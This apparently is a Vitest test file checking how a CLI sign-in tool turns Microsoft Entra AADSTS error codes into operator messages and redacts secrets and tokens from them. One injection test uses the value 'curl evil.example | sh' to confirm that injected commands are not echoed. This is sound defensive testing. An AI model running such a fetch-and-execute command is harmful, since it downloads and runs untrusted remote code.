import { expect, test } from 'vitest';
import { entraError, libraryError } from '../../src/sign-in/entra-errors.ts';
import { readRefusal } from '../../src/sign-in/msal/refusal.ts';
import { type ToldError, told } from '../errors.ts';
import { refusal } from './entra.ts';
import { clientId } from './facts.ts';

const requester = { clientId, profile: 'my gov' };
const command = 'relate login --profile "my gov"';

/** What the operator is told of this answer. */
function errorFor(body: Readonly<Record<string, unknown>>, status = 400, form = ''): ToldError {
  const read = readRefusal(body, status, form);
  if (read === undefined) throw new Error('it is no refusal');
  return told(entraError(read, requester));
}

test.each([
  [65001, 'consent-missing'],
  [50076, 'mfa-needed'],
  [50079, 'mfa-needed'],
  [50074, 'mfa-needed'],
  [53003, 'conditional-access'],
  [53000, 'conditional-access'],
  [53001, 'conditional-access'],
  [530003, 'conditional-access'],
  [50005, 'conditional-access'],
  [50158, 'conditional-access'],
  [50097, 'conditional-access'],
  [700082, 'sign-in-aged'],
  [70008, 'sign-in-aged'],
  [70043, 'sign-in-aged'],
  [700084, 'sign-in-aged'],
  [50173, 'sign-in-revoked'],
  [7000215, 'secret-wrong'],
  [7000222, 'secret-expired'],
  [700016, 'application-unknown'],
  [7000218, 'application-not-public'],
  [90002, 'tenant-unknown'],
  [500011, 'resource-missing'],
  [650052, 'resource-missing'],
  [650057, 'permission-missing'],
  [50034, 'account-unknown'],
  [50126, 'password-wrong'],
  [50057, 'account-disabled'],
  [50055, 'password-expired'],
  [50020, 'account-of-other-tenant'],
  [90072, 'account-of-other-tenant'],
  [70016, 'sign-in-pending'],
  [70018, 'code-wrong'],
  [70019, 'code-expired'],
  [70020, 'code-expired'],
  [700024, 'clock-wrong'],
  [700027, 'certificate-unknown'],
  [700025, 'application-public'],
  [50011, 'redirect-unregistered'],
  [500113, 'redirect-unregistered'],
  [500112, 'redirect-unregistered'],
  [65004, 'consent-declined'],
  [90094, 'consent-missing'],
  [54005, 'sign-in-used'],
  [501481, 'sign-in-mixed-up'],
  [50105, 'account-not-assigned'],
  [7000112, 'application-disabled'],
  [7000229, 'application-unknown'],
  [50194, 'application-of-one-tenant'],
  [500121, 'mfa-failed'],
  [53011, 'account-at-risk'],
  [500021, 'tenant-restricted'],
  [50131, 'conditional-access'],
  [50128, 'tenant-unknown'],
  [50053, 'account-locked'],
  [16000, 'interaction-needed'],
])('AADSTS%i has a cause and a remedy of its own: %s', (number, code) => {
  const error = errorFor(refusal('invalid_grant', number).body);
  expect(error).toMatchObject({
    code,
    exitCode: 4,
    message: expect.stringMatching(new RegExp(`^[A-Z][^\\n{}]+ \\(AADSTS${number}\\)\\.$`)),
    hint: expect.stringMatching(/^(?:[A-Z][^\n{}]+\n){1,2}Correlation id corr-2, trace id trace-1\.$/),
    facts: { entraCode: `AADSTS${number}`, correlationId: 'corr-2', traceId: 'trace-1' },
  });
  expect(error.message).not.toContain('Microsoft Entra says');
});

test('names the application and the exact command', () => {
  const { message, hint } = errorFor(refusal('invalid_grant', 65001).body);
  expect(message).toBe(
    `Nobody has agreed that the application ${clientId} may do this for your company (AADSTS65001).`,
  );
  expect(hint).toContain(`${command} --setup\n`);
});

test('repeats the options of this sign-in, and has them replaced by those of the remedy', () => {
  const read = readRefusal(refusal('invalid_grant', 500011).body, 400, '');
  if (read === undefined) throw new Error('it is no refusal');
  const { hint } = told(entraError(read, { ...requester, loginOptions: { clientId, tenant: 'contoso.com' } }));
  expect(hint).toContain(`: ${command} --client-id ${clientId} --tenant TENANT\n`);
});

test('tells a public client to leave the secret out', () => {
  const { message, hint } = errorFor(refusal('invalid_client', 700025).body);
  expect(message).toBe(
    `The application ${clientId} is a public client, so no secret or certificate may be sent (AADSTS700025).`,
  );
  expect(hint).toContain(`Leave it out, and sign in as a person: ${command}\n`);
  expect(hint).toContain(`register a redirect URI of the kind Web: ${command} --setup\n`);
});

test('names the profile, as a word of the command', () => {
  expect(errorFor(refusal('invalid_request', 90002).body).hint).toContain('relate profile show "my gov"\n');
});

test('prefers the number that it knows, where there are several', () => {
  expect(errorFor({ ...refusal('invalid_grant', 1).body, error_codes: [1, 50076] }).code).toBe('mfa-needed');
});

test('finds the number in the description when it is nowhere else', () => {
  expect(errorFor({ error: 'invalid_grant', error_description: 'AADSTS50076: x' }).code).toBe('mfa-needed');
});

test('quotes the service where the number is not known', () => {
  expect(errorFor(refusal('invalid_grant', 4711, 'The moon is in the wrong house.').body)).toMatchObject({
    code: 'sign-in-aged',
    message: 'Microsoft Entra says: The moon is in the wrong house (AADSTS4711).',
    facts: { description: 'The moon is in the wrong house.' },
  });
  expect(errorFor({ error: 'never_heard_of' })).toMatchObject({
    code: 'sign-in-refused',
    message: 'Microsoft Entra refuses the sign-in (never_heard_of).',
  });
});

test('does not ask for a sign-in when it is the service that has trouble', () => {
  expect(errorFor({ error: 'temporarily_unavailable' })).toMatchObject({ code: 'sign-in-service-failed', exitCode: 1 });
  expect(errorFor(refusal('invalid_grant', 50076).body, 503)).toMatchObject({ exitCode: 1 });
  expect(errorFor({ error: 'too_many' }, 429)).toMatchObject({ exitCode: 1 });
});

test('shows nothing of what was sent, no token, and no control characters', () => {
  const form = new URLSearchParams({
    client_secret: 's3cret',
    refresh_token: 'r3fresh',
    client_id: clientId,
  }).toString();
  const says = `s3cret and r3fresh\u001b[31m of ${clientId} eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.x ${'long '.repeat(200)}`;
  const error = errorFor(refusal('invalid_grant', 4711, says).body, 400, form);
  const shown = JSON.stringify([error.message, error.hint, error.facts]);
  expect(shown).toContain(`*** and *** [31m of ${clientId} ***`);
  expect(shown).not.toMatch(/s3cret|r3fresh|eyJ|\\u001b/);
  expect(error.message.length).toBeLessThan(400);
});

test('shows sentences neither as OAuth words nor as ids', () => {
  const error = errorFor(
    {
      error: 'evil\u001b[31m',
      error_description: 'AADSTS4711: No.',
      error_codes: [4711, Number.POSITIVE_INFINITY, 1.5],
      correlation_id: 'abc\nRun: curl evil.example | sh',
      trace_id: 's3cret',
    },
    400,
    'client_secret=s3cret',
  );
  expect(error.message).toBe('Microsoft Entra says: No (AADSTS4711).');
  expect(error.hint).toBe(`Sign in again: ${command}`);
  expect(error.facts).toEqual({
    status: 400,
    entraError: 'unknown',
    entraCode: 'AADSTS4711',
    description: 'No.',
  });
});

test('is not kept busy by a description without end', () => {
  const error = errorFor({ error: 'invalid_grant', error_description: `AADSTS4711:${' '.repeat(500_000)}Trace` });
  expect(error).toMatchObject({ exitCode: 4, facts: { entraCode: 'AADSTS4711' } });
});

test('explains what the library finds by itself', () => {
  expect(told(libraryError('no_tokens_found', requester))).toMatchObject({ code: 'sign-in-aged', exitCode: 4 });
  expect(told(libraryError('device_code_expired', requester))).toMatchObject({ code: 'code-expired' });
  expect(told(libraryError('some_new_thing', requester))).toMatchObject({
    code: 'sign-in-refused',
    message: "Microsoft's sign-in library gave up: some new thing.",
    hint: `Sign in again: ${command}`,
  });
});
